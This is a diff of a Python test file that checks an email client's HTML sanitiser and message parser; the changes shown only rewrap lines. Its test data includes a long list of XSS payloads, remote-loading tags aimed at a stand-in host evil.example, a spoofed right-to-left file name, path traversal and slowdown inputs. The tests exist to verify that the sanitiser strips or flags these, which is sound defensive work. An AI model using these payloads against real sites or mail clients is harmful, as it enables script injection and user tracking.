@@ -17,29 +17,40 @@ from tests.mail.pure.corpus import written
 # B1, B2: scripts, in mails and in what the parser makes of broken markup
 
 HOSTILE = (
-    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example></SCRIPT>",
+    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<SCRIPT SRC=//evil.example></SCRIPT>",
     "<img src=x onerror=alert(1)>", '<img src="x"onerror=alert(1)//', "<img src=`x`onerror=alert(1)>",
-    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style>",
+    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style>",
     "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<a href=\"javascript:alert(1)\">x</a>",
     "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>",
     "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
-    "<a href=vbscript:x>x</a>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=vbscript:x>x</a>", "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
     "<object data=//evil.example></object>", "<embed src=//evil.example>", "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/a.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/a.css>",
     "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x",
     "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
     "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
     "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-    "<template><style></template><img src=x onerror=alert(1)></style>", "<select><template><style><!--</style><a rel=\"--></style></template><img src=x onerror=alert(1)>\">",
-    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml version=1.0?><img src=x onerror=alert(1)>", "<p title='<img src=x onerror=alert(1)>'>x", "<x onclick=alert(1)>y",
-    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<textarea><img src=x onerror=alert(1)>",
-    "<title><img src=x onerror=alert(1)></title>", "<plaintext><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>",
-    "<a href=https://ok.example onmouseover=alert(1)>x</a>", "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<template><style></template><img src=x onerror=alert(1)></style>",
+    "<select><template><style><!--</style><a rel=\"--></style></template><img src=x onerror=alert(1)>\">",
+    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version=1.0?><img src=x onerror=alert(1)>", "<p title='<img src=x onerror=alert(1)>'>x",
+    "<x onclick=alert(1)>y",
+    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
+    "<textarea><img src=x onerror=alert(1)>",
+    "<title><img src=x onerror=alert(1)></title>", "<plaintext><script>alert(1)</script>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<a href=https://ok.example onmouseover=alert(1)>x</a>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
     "<b id=\"csrf\" class=\"btn\" name=\"x\" data-x=\"y\">x</b>", "\x00<scr\x00ipt>alert(1)</script>",
     "<a href='https://ok.example\"onclick=alert(1)//'>x</a>", "<table><td><a href=x><table><a><b><p><i></b>",
-    "<isindex type=image src=x onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<bgsound src=//evil.example/a.wav>",
+    "<isindex type=image src=x onerror=alert(1)>", "<image src=x onerror=alert(1)>",
+    "<bgsound src=//evil.example/a.wav>",
 )  # fmt: skip
 
 _SAFE_ATTRIBUTES = set().union(*sanitise._ATTRIBUTES.values()) | {"rel", "target"}
@@ -86,7 +97,8 @@ def test_b2_cleaning_again_changes_nothing_and_reads_the_same(hostile):
     once = sanitise.clean(f"<p>a</p>{hostile}<p>b</p>").html
     assert sanitise.clean(once).html == once
     reparsed = nh3.clean(once, tags=set(sanitise._TAGS), attributes=sanitise._ATTRIBUTES, link_rel=None,
-                         set_tag_attribute_values={}, url_schemes={"http", "https", "mailto", "tel", "data"})  # fmt: skip
+                         set_tag_attribute_values={}, url_schemes={"http", "https", "mailto", "tel",
+                         "data"})  # fmt: skip
     assert sorted(_Seen(reparsed).tags) == sorted(_Seen(once).tags)
 
 
@@ -100,13 +112,17 @@ def test_b2_html_that_does_not_settle_is_shown_as_its_text(monkeypatch):
 def test_cleaning_keeps_what_people_write():
     source = (
         '<h2>Numbers</h2><table border="1"><tr><td colspan="2" style="color: red">5 &amp; 6</td></tr></table>'
-        '<ul><li>one<li>two</ul><p>a <b>bold</b> <a href="https://acme.example/?a=1&amp;b=2">link</a><br>and a'
+        '<ul><li>one<li>two</ul><p>a <b>bold</b> <a href="https://acme.example/?a=1&amp;b=2">link</a>'
+        "<br>and a"
         ' <a href="mailto:ana@acme.example">mail</a></p><blockquote type="cite">old</blockquote>'
     )
     got = sanitise.clean(source).html
-    for kept in ('<td colspan="2" style="color: red">5 &amp; 6</td>', "<li>one</li><li>two</li>", "<b>bold</b>",
-                 'href="https://acme.example/?a=1&amp;b=2"', 'rel="noopener noreferrer nofollow"', 'target="_blank"',
-                 'href="mailto:ana@acme.example"', '<blockquote type="cite">old</blockquote>', "<br>"):  # fmt: skip
+    for kept in ('<td colspan="2" style="color: red">5 &amp; 6</td>',
+                 "<li>one</li><li>two</li>", "<b>bold</b>",
+                 'href="https://acme.example/?a=1&amp;b=2"', 'rel="noopener noreferrer nofollow"',
+                 'target="_blank"',
+                 'href="mailto:ana@acme.example"', '<blockquote type="cite">old</blockquote>',
+                 "<br>"):  # fmt: skip
         assert kept in got
     assert sanitise.clean("a < b and c > d, 1<2").html == "a &lt; b and c &gt; d, 1&lt;2"
 
@@ -133,7 +149,9 @@ def test_cleaning_keeps_what_people_write():
     ],
 )
 def test_b4_a_file_is_served_by_its_bytes_and_a_short_list(case, data, declared, served):
-    got = read(written(f"Content-Type: {declared}", "Content-Disposition: attachment; filename=x.png", body=data))
+    got = read(
+        written(f"Content-Type: {declared}", "Content-Disposition: attachment; filename=x.png", body=data)
+    )
     assert [file.content_type for file in got.files] == [served]
 
 
@@ -166,7 +184,8 @@ def test_b4_two_content_types_are_said_and_the_first_counts():
         ("font-size:0", ""), ("font-size: 1px !important", ""), ("font-size:12px", "font-size: 12px"),
         ("behavior:url(x.htc);-moz-binding:url(x)", ""),
         ("font-family:'Segoe UI',sans-serif", "font-family: 'Segoe UI',sans-serif"),
-        ("color:var(--x)", ""), ("width:calc(100vw*9)", ""), ("color", ""), (";;;", ""), ("color:red}" * 9, ""),
+        ("color:var(--x)", ""), ("width:calc(100vw*9)", ""), ("color", ""), (";;;", ""),
+        ("color:red}" * 9, ""),
     ],
 )  # fmt: skip
 def test_b5_styles_dress_text_and_do_nothing_else(style, kept):
@@ -175,21 +194,28 @@ def test_b5_styles_dress_text_and_do_nothing_else(style, kept):
 
 
 def test_b5_style_sheets_are_gone_with_what_they_say():
-    got = sanitise.clean("<style>[value^=a]{background:url(//evil.example/a)} @import '//evil.example'</style><p>x</p>").html
+    got = sanitise.clean(
+        "<style>[value^=a]{background:url(//evil.example/a)} @import '//evil.example'</style><p>x</p>"
+    ).html
     assert got == "<p>x</p>"
 
 
 # B6: pictures from elsewhere
 
 _CALLS_HOME = (
-    '<img src="https://evil.example/p.gif?u=ana">', "<img src=//evil.example/p.gif>", "<img src='\\\\evil.example\\p'>",
-    '<img srcset="https://evil.example/p.gif 2x" src="cid:nothing">', "<body background=https://evil.example/b>",
+    '<img src="https://evil.example/p.gif?u=ana">', "<img src=//evil.example/p.gif>",
+    "<img src='\\\\evil.example\\p'>",
+    '<img srcset="https://evil.example/p.gif 2x" src="cid:nothing">',
+    "<body background=https://evil.example/b>",
     '<table background="https://evil.example/b"><tr><td background="//evil.example">x</table>',
     "<video poster=https://evil.example/v></video>", "<link rel=prefetch href=https://evil.example>",
     "<svg><image href=https://evil.example/i></svg>", "<input type=image src=https://evil.example/i>",
-    "<p style='background:url(https://evil.example/s)'>x", "<img src='cid:a@b' dynsrc=//evil.example lowsrc=//evil.example>",
-    "<img src=file:///etc/passwd>", "<img src=https:evil.example>", "<audio src=//evil.example>", "<img src='data:image/svg+xml,<svg/>'>",
-    "<font style=\"font-family: url('//evil.example')\">x", "<a ping=//evil.example href=https://acme.example>x</a>",
+    "<p style='background:url(https://evil.example/s)'>x",
+    "<img src='cid:a@b' dynsrc=//evil.example lowsrc=//evil.example>",
+    "<img src=file:///etc/passwd>", "<img src=https:evil.example>", "<audio src=//evil.example>",
+    "<img src='data:image/svg+xml,<svg/>'>",
+    "<font style=\"font-family: url('//evil.example')\">x",
+    "<a ping=//evil.example href=https://acme.example>x</a>",
 )  # fmt: skip
 
 
@@ -204,7 +230,8 @@ def test_b6_nothing_is_loaded_when_a_mail_is_opened(source):
 
 
 def test_b6_remote_pictures_are_counted_and_loaded_through_our_proxy_only_when_asked():
-    source = '<img src="https://x.example/a.png"><img src="//x.example/b.png"><img src="cid:one@x"><img src="cid:two@x">'
+    source = '<img src="https://x.example/a.png"><img src="//x.example/b.png">'
+    source += '<img src="cid:one@x"><img src="cid:two@x">'
     closed = sanitise.clean(source, cid_urls={"one@x": "/files/1"})
     assert closed.remote == 2
     assert [value for _, name, value in _Seen(closed.html).attributes if name == "src"] == [
@@ -256,11 +283,15 @@ def test_b7_a_file_name_is_normalised_first_and_checked_after(claimed, name):
 
 def test_b7_a_name_that_misleads_is_pointed_out():
     header = 'attachment; filename="' + "photo\u202egpj.exe".encode().decode("latin-1") + '"'
-    raw = written("Content-Type: image/jpeg").replace(b"\r\n\r\n", b"\r\nContent-Disposition: " + header.encode("latin-1") + b"\r\n\r\n")
+    raw = written("Content-Type: image/jpeg").replace(
+        b"\r\n\r\n", b"\r\nContent-Disposition: " + header.encode("latin-1") + b"\r\n\r\n"
+    )
     got = read(raw)
     assert got.files[0].name == "photogpj.exe"
     assert got.noted("misleading file name")
-    assert read(written("Content-Disposition: attachment; filename=../../x", "Content-Type: a/b")).noted("misleading file name")
+    assert read(written("Content-Disposition: attachment; filename=../../x", "Content-Type: a/b")).noted(
+        "misleading file name"
+    )
 
 
 # B8: letters that look alike
@@ -285,7 +316,9 @@ def test_b8_a_sender_that_misleads_the_eye_is_pointed_out(sender, warns):
     assert "\u202e" not in got.sender_text
 
 
-@pytest.mark.parametrize("name", ["Zoë Müller", "Анна Смит", "Ελένη", "山田 Yamada", "ana@acme.example", "Ana"])
+@pytest.mark.parametrize(
+    "name", ["Zoë Müller", "Анна Смит", "Ελένη", "山田 Yamada", "ana@acme.example", "Ana"]
+)
 def test_b8_honest_names_raise_no_flag(name):
     assert read(written(sender=f'"{name}" <ana@acme.example>')).notes == ()
 
@@ -301,7 +334,9 @@ def test_b8_a_subject_is_stripped_of_what_reorders_it_and_says_so():
 
 
 def nested(depth: int) -> bytes:
-    head = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(depth))
+    head = b"".join(
+        b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(depth)
+    )
     return b"From: ana@acme.example\n" + head + b"Content-Type: text/plain\n\nat the bottom\n"
 
 
@@ -327,7 +362,10 @@ def test_b9_five_hundred_parts_are_read_and_the_rest_is_kept_as_a_file():
 
 def test_b9_parts_within_parts_count_together():
     inner = "".join(f"--in\n\n{place}\n" for place in range(300)) + "--in--\n"
-    outer = "".join("--out\nContent-Type: multipart/mixed; boundary=in\n\n" + inner for _ in range(10)) + "--out--"
+    outer = (
+        "".join("--out\nContent-Type: multipart/mixed; boundary=in\n\n" + inner for _ in range(10))
+        + "--out--"
+    )
     got = read(written("Content-Type: multipart/mixed; boundary=out", body=outer))
     assert got.truncated == ("parts",)
     assert len(got.files) >= 8
@@ -358,7 +396,11 @@ def test_b9_a_parameter_in_a_hundred_thousand_pieces():
 
 
 def test_b9_a_mail_inside_a_mail_inside_a_mail_is_not_opened():
-    raw = b"From: ana@acme.example\n" + b"Content-Type: message/rfc822\n\n" * 5_000 + b"Content-Type: text/plain\n\nx"
+    raw = (
+        b"From: ana@acme.example\n"
+        + b"Content-Type: message/rfc822\n\n" * 5_000
+        + b"Content-Type: text/plain\n\nx"
+    )
     got = read(raw)
     assert len(got.files) == 1
     assert len(got.files[0].data) > 100_000
@@ -367,7 +409,12 @@ def test_b9_a_mail_inside_a_mail_inside_a_mail_is_not_opened():
 def test_b9_a_boundary_that_is_almost_everywhere_gives_up_in_time():
     got = read(written("Content-Type: multipart/mixed; boundary=-", body="\n--x" * 30_000 + "\n---\n\nlate"))
     assert got.sender is not None
-    odd = read(written("Content-Type: multipart/mixed; boundary=b", body="--b\n\none" + "\n--bx" * 30_000 + "\n--b\n\ntwo"))
+    odd = read(
+        written(
+            "Content-Type: multipart/mixed; boundary=b",
+            body="--b\n\none" + "\n--bx" * 30_000 + "\n--b\n\ntwo",
+        )
+    )
     assert odd.truncated == ("parts",)
     assert "one" in odd.body_text
 
@@ -380,7 +427,9 @@ def test_b9_a_mail_over_the_limit_is_read_up_to_it():
 
 def test_b9_archives_and_pictures_are_never_opened():
     bomb = b"PK\x03\x04" + b"\0" * 42
-    got = read(written("Content-Type: application/zip; name=42.zip", "Content-Disposition: attachment", body=bomb))
+    got = read(
+        written("Content-Type: application/zip; name=42.zip", "Content-Disposition: attachment", body=bomb)
+    )
     assert got.files[0].data == bomb
 
 
@@ -408,15 +457,22 @@ _READ_FROM = lambda text: read(written("Cc: " + text, sender=text))  # noqa: E73
 _DETAILS = lambda text: intent.details("", text, severities={"critical": 1})  # noqa: E731
 _WORDS_HTML = (
     ("Word's own tags", lambda n: "<o:p>" * n), ("tags never closed", lambda n: "<a " * n),
-    ("tags with open quotes", lambda n: "<a '" * n), ("attributes without end", lambda n: "<a " + '"x" ' * n + ">"),
+    ("tags with open quotes", lambda n: "<a '" * n),
+    ("attributes without end", lambda n: "<a " + '"x" ' * n + ">"),
     ("angle brackets", lambda n: "<" * n), ("comments never closed", lambda n: "<!--" * n),
-    ("scripts never closed", lambda n: "<script>" * n), ("styles opened and opened", lambda n: "<style " * n + ">"),
-    ("nesting", lambda n: "<div>" * n), ("formatting within formatting", lambda n: "".join(f"<b a={i}>" for i in range(n))),
-    ("lists in lists", lambda n: "<ul><li>" * n), ("closing what is not open", lambda n: "<b>" * n + "</i>" * n),
-    ("entities", lambda n: "&#x" + "9" * n + ";"), ("ampersands", lambda n: "&" * n), ("spaces", lambda n: " " * n),
+    ("scripts never closed", lambda n: "<script>" * n),
+    ("styles opened and opened", lambda n: "<style " * n + ">"),
+    ("nesting", lambda n: "<div>" * n),
+    ("formatting within formatting", lambda n: "".join(f"<b a={i}>" for i in range(n))),
+    ("lists in lists", lambda n: "<ul><li>" * n),
+    ("closing what is not open", lambda n: "<b>" * n + "</i>" * n),
+    ("entities", lambda n: "&#x" + "9" * n + ";"), ("ampersands", lambda n: "&" * n),
+    ("spaces", lambda n: " " * n),
     ("one long name", lambda n: "<" + "a" * n), ("attribute names", lambda n: "<a " + "x" * n + ">"),
-    ("hrefs", lambda n: "<a " + "href " * n + ">"), ("a style", lambda n: '<p style="' + "color:red;" * n + '">'),
-    ("tables", lambda n: "<table><tr><td>" * n), ("quotes", lambda n: "<blockquote>" * n), ("pre", lambda n: "<pre>" * n),
+    ("hrefs", lambda n: "<a " + "href " * n + ">"),
+    ("a style", lambda n: '<p style="' + "color:red;" * n + '">'),
+    ("tables", lambda n: "<table><tr><td>" * n), ("quotes", lambda n: "<blockquote>" * n),
+    ("pre", lambda n: "<pre>" * n),
 )  # fmt: skip
 
 
@@ -434,16 +490,21 @@ def test_b10_html_takes_linear_time(case, make):
         ("links", sanitise.text_to_html, lambda n: "http://" * n),
         ("brackets in a link", sanitise.text_to_html, lambda n: "http://a" + ")" * n),
         ("www", sanitise.text_to_html, lambda n: "www." * n),
-        ("quote marks", quotes.split, lambda n: ">\n" * n), ("one line of quote marks", quotes.split, lambda n: ">" * n),
+        ("quote marks", quotes.split, lambda n: ">\n" * n),
+        ("one line of quote marks", quotes.split, lambda n: ">" * n),
         ("spaces before a signature", quotes.split, lambda n: " " * n + "-- \n"),
         ("attributions", quotes.split, lambda n: "On 3 Nov 2026 Ana wrote:\n" * n),
         ("one long attribution", quotes.split, lambda n: "On 3 Nov 2026 " + "wrote " * n + ":"),
-        ("from lines", quotes.split, lambda n: "From: a\n" * n), ("rules", quotes.split, lambda n: "____________\n" * n),
+        ("from lines", quotes.split, lambda n: "From: a\n" * n),
+        ("rules", quotes.split, lambda n: "____________\n" * n),
         ("empty lines", quotes.split, lambda n: "\n" * n), ("labels", _DETAILS, lambda n: "Role:" * n),
         ("empty labels", _DETAILS, lambda n: "Role:\n" * n), ("bullets", _DETAILS, lambda n: "* " * n),
-        ("severities", _DETAILS, lambda n: "sev " * n), ("a complaint spelt out", intent.complaint, lambda n: "c o m p l a i n " * n),
-        ("brackets in a subject", intent.complaint, lambda n: "[" * n), ("replies", intent.complaint, lambda n: "Re: " * n),
-        ("encoded words", _READ_SUBJECT, lambda n: "=?utf-8?q?" * n), ("question marks", _READ_SUBJECT, lambda n: "=?" * n),
+        ("severities", _DETAILS, lambda n: "sev " * n),
+        ("a complaint spelt out", intent.complaint, lambda n: "c o m p l a i n " * n),
+        ("brackets in a subject", intent.complaint, lambda n: "[" * n),
+        ("replies", intent.complaint, lambda n: "Re: " * n),
+        ("encoded words", _READ_SUBJECT, lambda n: "=?utf-8?q?" * n),
+        ("question marks", _READ_SUBJECT, lambda n: "=?" * n),
         ("comments", _READ_FROM, lambda n: "(" * n), ("quotation marks", _READ_FROM, lambda n: '"' * n),
         ("angle brackets", _READ_FROM, lambda n: "<" * n), ("at signs", _READ_FROM, lambda n: "@" * n),
         ("dots", _READ_FROM, lambda n: "a." * n), ("commas", _READ_FROM, lambda n: "a," * n),
@@ -479,7 +540,8 @@ def test_b10_reading_takes_linear_time(case, work, make):
         ("a codec that is no charset", "idna", b"xn--abc", "xn--abc"),
         ("another", "punycode", b"abc-", "abc-"), ("and another", "unicode_escape", b"\\u0041", "\\u0041"),
         ("and rot13", "rot13", b"abc", "abc"), ("and hex", "hex", b"6162", "6162"),
-        ("Chinese", "gb2312", "中文".encode("gb2312"), "中文"), ("Korean", "ks_c_5601-1987", "한글".encode("cp949"), "한글"),
+        ("Chinese", "gb2312", "中文".encode("gb2312"), "中文"),
+        ("Korean", "ks_c_5601-1987", "한글".encode("cp949"), "한글"),
         ("Russian", "koi8-r", "Привет".encode("koi8-r"), "Привет"),
         ("a name of 10 000 letters", "x" * 10_000, "Zoë".encode(), "Zoë"),
         ("bytes of no charset", "utf-8", bytes(range(0x80, 0xA0)), None),
